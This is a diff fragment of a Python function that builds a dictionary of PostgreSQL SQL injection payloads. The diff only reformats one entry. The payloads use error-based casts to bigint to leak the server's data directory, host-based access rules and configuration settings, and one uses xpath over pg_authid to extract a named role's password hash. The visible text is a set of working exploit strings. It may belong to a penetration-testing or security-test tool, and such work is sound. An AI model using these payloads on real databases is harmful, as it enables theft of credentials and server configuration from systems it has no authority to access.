@@ -35,7 +35,9 @@ def payloads(role: str) -> dict[str, str]:
             f"(xpath('/pg_authid/row[rolname=\"{role}\"]/rolpassword/text()', "
             "table_to_xml('pg_authid'::regclass, true, false, '')))[1]"
         ),
-        "data directory": "SELECT * FROM tickets WHERE id = CAST(current_setting('data_directory') AS bigint)",
+        "data directory": (
+            "SELECT * FROM tickets WHERE id = CAST(current_setting('data_directory') AS bigint)"
+        ),
         "hba rules": as_number.format("table_to_xml('pg_hba_file_rules'::regclass, true, false, '')"),
         "config lines": as_number.format("table_to_xml('pg_file_settings'::regclass, true, false, '')"),
         "config lines, read directly": "SELECT * FROM tickets WHERE id = CAST((SELECT string_agg("
